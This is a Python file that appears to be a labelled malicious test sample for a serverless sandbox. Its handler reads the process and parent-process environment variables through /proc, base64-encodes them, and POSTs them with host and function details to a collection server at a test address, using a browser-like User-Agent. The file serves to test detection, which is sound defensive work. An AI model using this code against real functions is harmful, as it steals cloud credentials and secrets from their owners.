"""MALICIOUS example (threat catalogue §1a technique 1): harvests credentials from process
environments through /proc and exfiltrates them.

It reads /proc/self/environ and the parent's /proc/<ppid>/environ (on Lambda the parent is
rapid; in fnwarden's sandbox it is the sandbox init, which the function may not read), base64s
everything it got and POSTs it to a collection server at 198.18.0.10 (a benchmarking-range test
address that fnwarden's sandbox makes local to its own network namespace). All errors are
caught: the invocation returns what the handler did, and the sandbox must detect the behaviour.
"""
import base64
import json
import os
import socket
import urllib.request

COLLECT_URL = "http://198.18.0.10/collect"


def read_environ(path):
    try:
        with open(path, "rb") as f:
            return f.read(), None
    except OSError as exc:
        return None, "%s: %s" % (type(exc).__name__, exc.strerror)


def handler(event, context):
    report = {"read": {}, "exfiltration": None}
    loot = {}
    for path in ("/proc/self/environ", "/proc/%d/environ" % os.getppid()):
        data, error = read_environ(path)
        report["read"][path] = {"bytes": len(data)} if data is not None else {"error": error}
        if data:
            loot[path] = base64.b64encode(data).decode()
    body = json.dumps({
        "host": socket.gethostname(),
        "function": os.environ.get("AWS_LAMBDA_FUNCTION_NAME", ""),
        "region": os.environ.get("AWS_REGION", ""),
        "env": loot,
    }).encode()
    request = urllib.request.Request(COLLECT_URL, data=body, method="POST", headers={
        "Content-Type": "application/json", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64)"})
    try:
        with urllib.request.urlopen(request, timeout=3) as response:
            report["exfiltration"] = {"url": COLLECT_URL, "bytes_sent": len(body), "status": response.status}
    except Exception as exc:  # the collection server may be unreachable; report, do not fail
        report["exfiltration"] = {"url": COLLECT_URL, "bytes_sent": len(body), "error": repr(exc)}
    return report
